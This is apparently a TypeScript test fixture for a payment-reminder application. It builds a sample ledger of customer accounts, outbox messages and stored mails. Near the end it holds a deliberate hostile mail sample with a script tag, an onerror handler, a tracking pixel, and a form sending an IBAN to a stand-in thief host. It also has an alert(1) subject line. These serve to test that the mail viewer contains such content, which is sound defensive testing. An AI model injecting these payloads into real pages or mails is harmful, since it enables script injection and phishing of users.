import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { addDays, asCalendarDate, type CalendarDate } from "#domain/base/calendar";
import { type Instant, instantAt } from "#domain/base/clock";
import { digest } from "#domain/base/identity";
import { ok, refused } from "#domain/base/result";
import type { AccountAnswer, MessageAnswer } from "#wire/answers";
import { type Mailbox, openMailbox } from "../../workbench/cloud/catcher/mailbox";
import { type LocalClock, openClock } from "../../workbench/cloud/clock";
import type { PagePorts } from "../../workbench/cloud/page/ports";

/** A small ledger for the page: the ports keep it in memory, the clock and the mailbox are the real ones. */

const ZONE = "Europe/Tallinn";
const FIRST_DAY = asCalendarDate("2026-11-16");

const customers = [
  "Aalto Rakennus Oy",
  "Bäckerei Nürnberger",
  "Café Łódź Sp. z o.o.",
  "Duna Fuvar Kft.",
  "Ελληνικά Τρόφιμα ΑΕ",
  "Ferretería Núñez, S.L.",
  "Granit & Sons Ltd",
  "Hansa Puit OÜ",
  "Iluaed OÜ",
  "Jõgeva Metall AS",
  "Kase Kaubandus OÜ",
  "Müller & Söhne <GmbH>",
];
const level = (number: number): string =>
  ["Payment reminder", "Demand for payment", "Final notice"][number - 1] ?? "";

type Hold = AccountAnswer["hold"];
const holds: readonly Hold[] = [
  {
    kind: "notYetDue",
    name: "not due yet",
    sentence: "Demand for payment goes out on 2026-11-24 if nothing is paid before.",
  },
  {
    kind: "noAddress",
    name: "no e-mail address",
    sentence: "There is no e-mail address for this customer: enter one in the customers table.",
  },
  {
    kind: "rowsMissing",
    name: "rows missing or unreadable in the workbook",
    sentence:
      "No longer readable in the workbook: 2026-0217, 2026-0230. Put the row back or correct it; it is not chased meanwhile.",
  },
  {
    kind: "recentlyContacted",
    name: "contacted a few days ago",
    sentence: "The last notice went out on 2026-11-13; demand for payment follows on 2026-11-24.",
  },
  {
    kind: "messageHeld",
    name: "a message waits to be settled",
    sentence: 'settle it with "outbox settle x".',
  },
];
const BY_ITSELF = new Set(["notYetDue", "recentlyContacted"]);

function accountAt(index: number): AccountAnswer {
  const name = customers[index % customers.length] ?? "";
  const branch = Math.floor(index / customers.length);
  const hold = index % 6 === 5 ? null : (holds[index % 6] ?? null);
  const reached = index % 4;
  const openMinor = 12_345 + index * 98_701;
  return {
    accountId: `a_${digest(`account ${index}`)}`,
    customer: branch === 0 ? name : `${name} (${branch + 1})`,
    email: hold?.kind === "noAddress" ? null : `ledger${index}@customer-${index}.example`,
    open: {
      EUR: openMinor,
      ...(index % 5 === 0 ? { HUF: 5_432_100 } : {}),
      ...(index === 4 ? { JPY: 98_000 } : {}),
    },
    overdue: index % 3 === 0 ? {} : { EUR: Math.floor(openMinor / 2) },
    oldestDueOn: addDays(FIRST_DAY, -index),
    missing: hold?.kind === "rowsMissing" ? ["2026-0217", "2026-0230"] : [],
    levelReached: reached,
    lastNotice:
      reached === 0
        ? null
        : { level: level(reached), on: "2026-11-13", delivery: index % 7 === 2 ? "bounced" : "delivered" },
    next:
      hold && !BY_ITSELF.has(hold.kind)
        ? null
        : { action: level(Math.min(reached + 1, 3)), on: "2026-11-24" },
    hold,
  };
}

function messageAt(index: number, on: CalendarDate): MessageAnswer {
  const account = accountAt(index);
  const states = ["accepted", "accepted", "accepted", "withdrawn", "rejected"] as const;
  const state = index < 2 ? "held" : (states[index % 5] ?? "accepted");
  return {
    messageId: `${account.accountId}~notice~1~${(index % 3) + 1}~1~email`,
    customer: account.customer,
    email: account.email,
    phone: null,
    channel: "email",
    askedBy: null,
    policyVersion: 1,
    levelName: level((index % 3) + 1),
    state,
    plannedOn: on,
    totals: account.open,
    because:
      state === "held"
        ? "the connection broke after the request had been handed over"
        : state === "rejected"
          ? "550 no such mailbox"
          : null,
    delivery: state === "accepted" ? "delivered" : null,
    stateAt: instantAt(ZONE, on, 9),
  };
}

/** The HTML of a mail that tries to get out of its frame. */
const HOSTILE_HTML = `<h1>Hello</h1><script>parent.postMessage("ran", "*"); top.document.title = "ran";</script>
<img src="x" onerror="parent.postMessage('ran', '*')"><img src="https://tracker.example/open.gif">
<form action="https://thief.example"><input name="iban"></form><a target="_top" href="https://thief.example">Pay</a>`;

const golden = (file: string): string =>
  readFileSync(join(process.cwd(), "test", "golden", "en", file), "utf8");

/** The ports of a page over the small ledger, and how to clear up after it. Sending may have been stopped. */
export async function openLedger(
  stoppedBecause: string | null = null,
): Promise<{ readonly ports: PagePorts; readonly close: () => void }> {
  const folder = mkdtempSync(join(tmpdir(), "dunbook-page-"));
  const clock = openClock(join(folder, "clock.json"), { startsOn: FIRST_DAY, timeZone: ZONE, hour: 9 });
  const mailbox = openMailbox(":memory:");
  const messages = Array.from({ length: 40 }, (_, index) =>
    messageAt(index, index < 20 ? FIRST_DAY : addDays(FIRST_DAY, -3)),
  );
  await keepMails(mailbox, messages, clock.now());
  const close = (): void => {
    mailbox.close();
    rmSync(folder, { recursive: true });
  };
  return { ports: portsOver(clock, mailbox, messages, stoppedBecause), close };
}

/** Sixty mails: real letters, the longest of them last but one, and a hostile one at the end. */
async function keepMails(mailbox: Mailbox, messages: readonly MessageAnswer[], at: Instant): Promise<void> {
  const keep = (message: MessageAnswer | undefined, subject: string, html: string, text: string | null) =>
    mailbox.keep({
      to: { email: message?.email ?? "ledger@elsewhere.example", name: message?.customer ?? null },
      from: { email: "accounts@tormikask.example", name: "Tormikask OÜ" },
      replyTo: "liis@tormikask.example",
      subject,
      html,
      text,
      customArgs: { dunbook_org: "org", dunbook_message: message?.messageId ?? "none" },
      copies: [],
      headers: {},
      categories: [],
      files: [],
      providerId: digest(subject),
      receivedAt: at,
    });
  const [html, text] = [golden("demand.html"), golden("demand.txt")];
  for (let index = 0; index < 58; index += 1)
    await keep(messages[index % 40], `Demand for payment ${index + 1}`, html, text);
  const [longHtml, longText] = [golden("reminder.worst.html"), golden("reminder.worst.txt")];
  await keep(messages[0], "Payment reminder from Kase & Co", longHtml, longText);
  await keep(undefined, "<script>alert(1)</script> & more", HOSTILE_HTML, null);
}

function portsOver(
  clock: LocalClock,
  mailbox: Mailbox,
  first: readonly MessageAnswer[],
  stopped: string | null,
): PagePorts {
  let messages = [...first];
  let stoppedBecause = stopped;
  const accounts = Array.from({ length: 40 }, (_, index) => accountAt(index));
  const organisation = "Tormikask OÜ";
  return {
    organisation,
    overview: async () => ({ organisation, today: clock.today(), stoppedBecause, paused: [], accounts }),
    outbox: async () => ({ messages }),
    mails: mailbox,
    clock,
    moveClock: async (days) => {
      const from = clock.today();
      const moved = clock.advance(days);
      const sent = { "Payment reminder": 11, "Demand for payment": 3 };
      const problem = moved.ok ? null : moved.problem;
      return { from, to: clock.today(), sent, rejected: 1, held: 0, stoppedBecause: problem };
    },
    sendingStopped: async () => stoppedBecause,
    resumeSending: async () => {
      stoppedBecause = null;
    },
    settle: async (messageId, as) => {
      const held = messages.find((message) => message.messageId === messageId && message.state === "held");
      if (!held) return refused("Only a held message can be settled.");
      const settled = { ...held, state: as === "sent" ? "accepted" : "withdrawn", because: null };
      messages = messages.map((message) => (message === held ? settled : message));
      return ok(settled);
    },
  };
}
